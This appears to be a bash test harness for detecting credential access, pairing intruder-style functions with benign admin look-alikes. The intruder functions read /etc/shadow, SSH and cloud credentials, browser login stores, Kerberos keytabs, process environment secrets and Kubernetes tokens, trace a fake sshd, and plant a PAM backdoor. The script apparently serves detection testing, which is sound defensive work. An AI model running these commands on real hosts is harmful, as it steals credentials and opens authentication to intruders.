#!/bin/bash
# Credential access: somebody looks for what opens other doors. Beside it, those who may.

# The intruder, as root on the host.

host_read_hashes() {
  head -1 /etc/shadow
  ln -s /etc/shadow /tmp/notes
}

host_read_keys() {
  cat /home/ops/.ssh/id_ed25519 /root/.aws/credentials
  tar -c -f /tmp/k.tar /home/ops/.config/gcloud /root/.kube /root/.docker
}

host_read_stores() {
  cp /home/ops/.mozilla/firefox/a1b2c3.default/logins.json /tmp/logins
  cat /home/ops/.config/chromium/Default/Login\ Data
  cat /home/ops/.local/share/keyrings/login.keyring
}

host_read_tickets() {
  cat /tmp/krb5cc_1000 /etc/krb5.keytab
}

host_search_for_secrets() {
  grep -r -i -l password /srv /home/ops
  find / -xdev -name 'id_rsa*' -o -xdev -name '*.kdbx'
}

host_read_what_others_typed() {
  grep -h mysql /home/ops/.bash_history
}

host_read_environments() {
  sleep 3 &
  cat "/proc/$!/environ"
  tr '\0' '\n' < "/proc/$!/environ" | grep -a SECRET || true
}

host_read_memory() {
  python3 /opt/tactic.py
}

host_dump_a_login() {
  cp /usr/bin/sleep /usr/local/sbin/sshd
  /usr/local/sbin/sshd 20 &
  sleep 0.3
  strace -o /tmp/trace -e trace=read -p $! &
  sleep 0.5
  kill %1
  wait || true
}

host_change_how_logins_are_checked() {
  echo 'auth sufficient pam_permit.so' >> /etc/pam.d/other
  mkdir -p /usr/local/lib/security
  cp /opt/tactic.py /usr/local/lib/security/pam_unix.so
  sed -i '$d' /etc/pam.d/other
}

container_read_tokens() {
  cat /var/run/secrets/kubernetes.io/serviceaccount/token
}

# Ordinary work.

host_ops_become_root() {
  sudo -n true
}

host_change_passwords() {
  echo 'ops:example' | chpasswd
  useradd -m -s /bin/bash clerk
  su - ops -c true
  userdel -r clerk
}

host_cron_back_up() {
  tar -c -z -f /var/backups/srv.tar.gz -C / srv
}

host_use_keys() {
  ssh-keygen -q -y -f /root/.ssh/id_ed25519
  ssh -o BatchMode=yes -o StrictHostKeyChecking=no -i /root/.ssh/id_ed25519 -o ConnectTimeout=1 packages.example.org true || true
  cat /home/ops/.ssh/id_ed25519.pub
}

host_tty_look_around() {
  grep -r port /srv
  find /srv -name '*.conf'
  cat /root/.bashrc
  ps aux
}

host_trace_own_program() {
  strace -o /tmp/trace -e trace=openat cat /srv/orders.conf
}

host_read_own_environment() {
  tr '\0' '\n' < /proc/self/environ
  cat /proc/self/status
}

host_install_package() {
  mkdir -p /tmp/stage/DEBIAN /tmp/stage/etc/pam.d
  echo 'auth required pam_unix.so' > /tmp/stage/etc/pam.d/orders
  printf 'Package: orders\nVersion: 1.0\nArchitecture: all\nMaintainer: build <build@example.com>\nDescription: takes orders\n' > /tmp/stage/DEBIAN/control
  dpkg-deb --build --root-owner-group /tmp/stage /tmp/orders.deb
  dpkg --install /tmp/orders.deb
}

container_use_tokens() {
  python3 -c 'open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()'
}

"$1"
